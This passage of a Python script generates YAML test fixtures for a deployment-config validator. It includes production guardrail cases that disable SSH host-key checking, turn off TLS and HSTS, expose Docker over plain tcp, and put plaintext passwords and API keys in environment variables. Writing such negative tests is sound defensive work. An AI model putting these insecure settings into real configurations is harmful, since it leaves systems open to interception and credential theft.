    ("redis-volume-shared", "berth:redis.volume", {"redis.volume": "postgres_data"}),
    ("rabbitmq-admin-beside-admin", "berth:rabbitmq.users",
     {"rabbitmq.admin_user": "root", "rabbitmq.users.admin": {"vhosts": ["/"]}}),
    ("rabbitmq-user-is-admin", "berth:rabbitmq.users", {"rabbitmq.users.admin": {"vhosts": ["/"]}}),
    ("rabbitmq-user-slash", "berth:rabbitmq.users.a/b", {"rabbitmq.users.a/b": {"vhosts": ["/"]}}),
    ("rabbitmq-user-colons", "berth:rabbitmq.users.a::b", {"rabbitmq.users.a::b": {"vhosts": ["/"]}}),
    ("rabbitmq-user-vhost-unknown", "berth:rabbitmq.users.worker.vhosts", {"rabbitmq.users.worker.vhosts": ["nope"]}),
    ("rabbitmq-user-no-vhosts", "berth:rabbitmq.users.worker.vhosts", {"rabbitmq.users.worker.vhosts": []}),
    ("rabbitmq-queue-vhost-unknown", "berth:rabbitmq.queues[0].vhost", {"rabbitmq.queues[0].vhost": "nope"}),
    ("rabbitmq-queue-twice", "berth:rabbitmq.queues[1].name",
     {"rabbitmq.queues[1]": {"name": "jobs", "vhost": "events"}}),
    ("rabbitmq-tag-space", "berth:rabbitmq.users.worker.tags[0]", {"rabbitmq.users.worker.tags": ["a b"]}),
    ("rabbitmq-permission-regex", "berth:rabbitmq.users.worker.read", {"rabbitmq.users.worker.read": "("}),
    ("rabbitmq-vhost-space", "berth:rabbitmq.vhosts[1]", {"rabbitmq.vhosts[1]": "my events"}),
    ("rabbitmq-no-vhosts", "berth:rabbitmq.vhosts", {"rabbitmq.vhosts": []}),
    ("bucket-ip", "berth:minio.buckets[0]", {"minio.buckets": ["192.168.1.1"]}),
    ("bucket-dotdot", "berth:minio.buckets[0]", {"minio.buckets": ["my..bucket"]}),
    ("bucket-dot-dash", "berth:minio.buckets[0]", {"minio.buckets": ["my.-bucket"]}),
    ("bucket-short", "berth:minio.buckets[0]", {"minio.buckets": ["ab"]}),
    ("bucket-dash-start", "berth:minio.buckets[0]", {"minio.buckets": ["-bucket"]}),
    ("bucket-xn", "berth:minio.buckets[0]", {"minio.buckets": ["xn--bucket"]}),
    ("bucket-s3alias", "berth:minio.buckets[0]", {"minio.buckets": ["bucket-s3alias"]}),
    ("bucket-upper", "berth:minio.buckets[0]", {"minio.buckets": ["Uploads"]}),
    ("bucket-long", "berth:minio.buckets[0]", {"minio.buckets": ["b" * 64]}),
    ("minio-root-user-short", "berth:minio.root_user", {"minio.root_user": "ab"}),
    ("es-memory-low", "berth:elk.elasticsearch", {"elk.elasticsearch.resources": {"limits": {"memory": "256m"}}}),
    ("logstash-memory-low", "berth:elk.logstash.resources", {"elk.logstash.resources": {"limits": {"memory": "256m"}}}),
    ("logstash-port-low", "berth:elk.logstash.tcp_port", {"elk.logstash.tcp_port": 80}),
    ("secret-name-upper", "berth:secrets.JWT", {"secrets.JWT": {}}),
    ("secret-length-short", "berth:secrets.jwt.length", {"secrets.jwt.length": 8}),
]

# Prod (and staging) guardrails: valid by the schema, refused unless allow_insecure names them.
GUARDRAIL_CASES: list[tuple[str, str, str, Any]] = [
    ("prod-tcp-without-tls", "prod", "berth:host.url", {"host": {"url": "tcp://docker.example.com:2375"}}),
    ("prod-strict-host-key-no", "prod", "berth:host.ssh_opts", {"host.ssh_opts": ["-o", "StrictHostKeyChecking=no"]}),
    ("prod-strict-host-key-inline", "prod", "berth:host.ssh_opts", {"host.ssh_opts": ["-oStrictHostKeyChecking=off"]}),
    ("prod-known-hosts-dev-null", "prod", "berth:host.ssh_opts",
     {"host.ssh_opts": ["-o", "UserKnownHostsFile=/dev/null"]}),
    ("prod-tls-none", "prod", "berth:proxy.tls.mode", {"proxy.tls": {"mode": "none"}, "proxy.http_redirect": False}),
    ("prod-hsts-zero", "prod", "berth:proxy.tls.hsts_max_age", {"proxy.tls.hsts_max_age": 0}),
    ("prod-protect-data-false", "prod", "berth:protect_data", {"protect_data": False}),
    ("prod-plaintext-redis-password", "prod", "berth:redis.password", {"redis.password": "plain-text-password"}),
    ("prod-plaintext-registry-password", "prod", "berth:registries[0].password",
     {"registries[0].password": "plain-registry-password"}),
    ("prod-plaintext-secret-value", "prod", "berth:secrets.jwt.value", {"secrets.jwt.value": "plain-jwt-secret-value"}),
    ("prod-env-password", "prod", "berth:apps.backend.env.DB_PASSWORD", {"apps.backend.env.DB_PASSWORD": "hunter22"}),
    ("prod-env-api-key", "prod", "berth:jobs.migrate.env.STRIPE_API_KEY", {"jobs.migrate.env.STRIPE_API_KEY": "sk_x"}),
    ("prod-env-url-with-password", "prod", "berth:apps.backend.env.UPSTREAM",
     {"apps.backend.env.UPSTREAM": "https://user:pa55@api.example.com/"}),
    ("staging-says-prod", "staging", "berth:environment", {"environment": "prod"}),
    ("staging-tls-none", "staging", "berth:proxy.tls.mode",
     {"environment": "staging", "proxy.tls": {"mode": "none"}, "proxy.http_redirect": False}),
    ("staging-strict-host-key-no", "staging", "berth:host.ssh_opts",
     {"environment": "staging", "host.ssh_opts": ["-o", "StrictHostKeyChecking=no"]}),
    ("prod-opt-out-short-reason", "prod", "berth:allow_insecure.tls_off",
     {"proxy.tls": {"mode": "none"}, "proxy.http_redirect": False, "allow_insecure": {"tls_off": "x"}}),
    ("prod-opt-out-unknown-rule", "prod", "berth:allow_insecure.all",
     {"allow_insecure": {"all": "everything is fine here"}}),
    ("prod-opt-out-wrong-rule", "prod", "berth:protect_data",
     {"protect_data": False, "allow_insecure": {"tls_off": "a reason for the wrong rule"}}),
]


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.glob("*.yaml"):
        old.unlink()
    written = 0
    for name, expect, case in CASES:
        write(name, expect, "corpus", case, BASE)
        written += 1
    for name, stack, expect, case in GUARDRAIL_CASES:
        base = changed(BASE, {**PROD, **({"environment": stack} if stack != "prod" else {})})
        write(name, expect, stack, case, base)
        written += 1
    print(f"wrote {written} files to {CORPUS}")


def write(name: str, expect: str, stack: str, case: Any, base: dict[str, Any]) -> None:
    header = f"# expect: {expect}\n# stack: {stack}\n".encode()
    if isinstance(case, bytes):
        body = case
    elif isinstance(case, str):
        body = case.encode()
    else:
        body = stack_text(changed(base, case)).encode()
    (CORPUS / f"{name}.yaml").write_bytes(header + body)


if __name__ == "__main__":
    main()
